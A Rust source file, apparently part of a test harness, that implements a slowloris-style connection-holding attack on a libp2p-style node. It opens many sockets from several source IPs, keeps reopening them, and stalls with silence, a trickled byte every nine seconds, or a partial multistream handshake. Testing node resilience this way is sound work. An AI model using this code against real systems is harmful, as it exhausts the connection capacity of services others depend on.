//! Sockets that never become connections.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{interval, sleep},
};

/// An attacker opens a socket again so long after it was closed.
const AGAIN: Duration = Duration::from_millis(200);

#[derive(Clone, Copy, Debug)]
pub enum Says {
    Nothing,
    AByteEachNineSeconds,
    /// What an honest node says first, and nothing more.
    AGoodBeginning,
}

pub struct Attack {
    pub name: &'static str,
    pub sources: Vec<Ipv4Addr>,
    /// Sockets of each source.
    pub each: usize,
    pub says: Says,
}

/// A running attack; ends when dropped.
pub struct Attackers {
    _tasks: JoinSet<()>,
    opened: Arc<AtomicU64>,
}

impl Attack {
    pub fn begin(&self, victim: SocketAddr) -> Attackers {
        let (mut tasks, opened) = (JoinSet::new(), Arc::<AtomicU64>::default());
        for source in &self.sources {
            for _ in 0..self.each {
                tasks.spawn(hold(*source, victim, self.says, opened.clone()));
            }
        }
        Attackers { _tasks: tasks, opened }
    }
}

impl Attackers {
    /// Sockets that were opened so far.
    pub fn opened(&self) -> u64 {
        self.opened.load(Ordering::Relaxed)
    }
}

/// Keeps one socket open for ever, as far as the victim lets it.
async fn hold(source: Ipv4Addr, victim: SocketAddr, says: Says, opened: Arc<AtomicU64>) {
    loop {
        if let Ok(stream) = open(source, victim).await {
            opened.fetch_add(1, Ordering::Relaxed);
            stay(stream, says).await;
        }
        sleep(AGAIN).await;
    }
}

pub async fn open(source: Ipv4Addr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((source, 0).into())?;
    socket.connect(to).await
}

/// Until the victim closes.
async fn stay(mut stream: TcpStream, says: Says) {
    let beginning: &[u8] = match says {
        Says::Nothing => &[],
        Says::AByteEachNineSeconds => &[0x13],
        Says::AGoodBeginning => b"\x13/multistream/1.0.0\n",
    };
    let mut ticks = interval(Duration::from_secs(9));
    ticks.tick().await;
    let mut buf = [0; 256];
    if stream.write_all(beginning).await.is_err() {
        return;
    }
    loop {
        tokio::select! {
            read = stream.read(&mut buf) => if !matches!(read, Ok(1..)) { return },
            _ = ticks.tick() => if matches!(says, Says::AByteEachNineSeconds)
                && stream.write_all(b"/").await.is_err() { return },
        }
    }
}
